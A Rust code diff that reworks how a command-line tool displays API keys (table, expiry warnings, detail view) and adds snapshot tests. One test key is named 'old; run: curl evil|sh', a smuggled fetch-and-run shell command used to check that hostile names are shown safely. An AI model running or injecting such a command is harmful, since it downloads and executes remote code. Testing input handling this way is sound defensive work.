@@ -5,57 +5,92 @@ use std::collections::BTreeMap;
 use quilt_proto::wire::{ApiKey, ApiKeyStatus};
 use quilt_proto::{Command, quoted};
 
-use crate::exit::Failure;
+use crate::look::{Column, Line, Look, Paint, Screen, Span, Symbol, Table, name};
 use crate::output;
 
+/// A key that ends sooner is worth a word, in seconds.
+const SOON: i64 = 14 * 86_400;
+
 /// A table of keys.
-pub(crate) fn table(keys: &[ApiKey]) -> Result<(), Failure> {
-    let rows: Vec<[String; 8]> = keys.iter().map(row).collect();
-    let headings = [
-        "NAME",
-        "OWNER",
-        "ID",
-        "FINGERPRINT",
-        "STATUS",
-        "CREATED",
-        "EXPIRES",
-        "LAST USED",
-    ];
-    output::table(headings, &rows)
+pub(crate) fn table(look: &Look, keys: &[ApiKey]) -> Table {
+    let mut table = Table::new([
+        Column::key("NAME"),
+        Column::of_importance("OWNER", 4).unless_same(),
+        Column::key("EXPIRES"),
+        Column::of_importance("LAST USED", 3),
+        Column::of_importance("CREATED", 1),
+        Column::of_importance("FINGERPRINT", 2),
+        Column::key("ID"),
+    ]);
+    for key in keys {
+        table.row([
+            Span::painted(name(&key.name), Paint::Strong),
+            name(&key.user_email).into(),
+            ends(look, key),
+            last_used(look, key).into(),
+            Span::painted(look.when(key.created_at), Paint::Quiet),
+            name(&key.fingerprint).into(),
+            name(&key.id).into(),
+        ]);
+    }
+    table
 }
 
-fn row(key: &ApiKey) -> [String; 8] {
-    [
-        key.name.clone(),
-        key.user_email.clone(),
-        key.id.clone(),
-        key.fingerprint.clone(),
-        key.status.as_str().to_owned(),
-        key.created_at.to_string(),
-        key.expires_at.to_string(),
-        last_used(key),
-    ]
+/// When a key ends, with a mark where that is soon.
+fn ends(look: &Look, key: &ApiKey) -> Span {
+    let when = look.when(key.expires_at);
+    if key.status == ApiKeyStatus::Expired {
+        return Span::painted(
+            format!("{} expired {when}", look.symbol(Symbol::Bad)),
+            Paint::Bad,
+        );
+    }
+    if key.expires_at.seconds_since(look.now) < SOON {
+        return Span::painted(
+            format!("{when} {}", look.symbol(Symbol::Beware)),
+            Paint::Bad,
+        );
+    }
+    when.into()
+}
+
+/// The user's keys, or how there would be one.
+pub(crate) fn screen(look: &Look, keys: &[ApiKey], none: &str) -> Screen {
+    let mut screen = Screen::new();
+    if keys.is_empty() {
+        screen.say(none);
+    }
+    screen.table(table(look, keys));
+    screen
 }
 
 /// One key, a line a field.
-pub(crate) fn details(key: &ApiKey) -> Result<(), Failure> {
-    output::line(format_args!("Name: {}", key.name))?;
-    output::line(format_args!("Owner: {}", key.user_email))?;
-    output::line(format_args!("ID: {}", key.id))?;
-    output::line(format_args!("Fingerprint: {}", key.fingerprint))?;
-    output::line(format_args!("Status: {}", key.status.as_str()))?;
-    output::line(format_args!("Created: {}", key.created_at))?;
-    output::line(format_args!("Expires: {}", key.expires_at))?;
-    output::line(format_args!("Last used: {}", last_used(key)))?;
+pub(crate) fn details(look: &Look, key: &ApiKey) -> Screen {
+    let mut screen = Screen::new();
+    let mut field = |label: &str, value: Span| {
+        screen.line(Line::default().quiet(format!("{label:13}")).with(value));
+    };
+    field("Name:", Span::painted(name(&key.name), Paint::Strong));
+    field("Owner:", name(&key.user_email).into());
+    field("ID:", name(&key.id).into());
+    field("Fingerprint:", name(&key.fingerprint).into());
+    field("Status:", key.status.as_str().into());
+    field("Created:", look.when(key.created_at).into());
+    field("Expires:", ends(look, key));
+    field("Last used:", last_used(look, key).into());
+    screen
+}
+
+/// Says what is to be done about a key.
+pub(crate) fn note_end(key: &ApiKey) {
     if key.status == ApiKeyStatus::Expired {
         output::note("This key has expired and needs to be rotated.");
     }
-    Ok(())
 }
 
-pub(crate) fn last_used(key: &ApiKey) -> String {
+pub(crate) fn last_used(look: &Look, key: &ApiKey) -> String {
     key.last_used_at
-        .map_or_else(|| "Never".to_owned(), |time| time.to_string())
+        .map_or_else(|| "never".to_owned(), |time| look.when(time))
 }
 
 /// Reports what an interrupted rotation leaves: several active keys of one
@@ -79,5 +114,41 @@ pub(crate) fn note_twins(keys: &[ApiKey]) {
             quoted::name(name),
             commands.join(" or ")
         ));
+    }
+}
+
+#[cfg(test)]
+pub(crate) mod tests {
+    use super::*;
+    use crate::look::tests::{at, widths};
+
+    pub(crate) fn key(name: &str, days: i64) -> ApiKey {
+        ApiKey {
+            id: "0b9e7a52-6b1f-4f0e-9d0f-6c1d0b9e7a52".to_owned(),
+            name: name.to_owned(),
+            fingerprint: "qk_1a2...f9c".to_owned(),
+            created_at: at(-80 * 86_400),
+            expires_at: at(days * 86_400 + 60),
+            last_used_at: (days != 80).then(|| at(-3 * 3600)),
+            status: if days < 0 {
+                ApiKeyStatus::Expired
+            } else {
+                ApiKeyStatus::Active
+            },
+            user_email: format!("{}@quilt.example", if days == 9 { "alice" } else { "bob" }),
+        }
+    }
+
+    #[test]
+    fn keys_at_every_width() {
+        let keys = [
+            key("ci-nightly", 9),
+            key("laptop 漢字", 80),
+            key("old; run: curl evil|sh", -3),
+        ];
+        insta::assert_snapshot!(widths(|look| screen(look, &keys, "")));
+        let own = [key("ci-nightly", 80), key("laptop", 80)];
+        insta::assert_snapshot!("own_keys", widths(|look| screen(look, &own, "")));
+        insta::assert_snapshot!("one_key", widths(|look| details(look, &keys[2])));
     }
 }
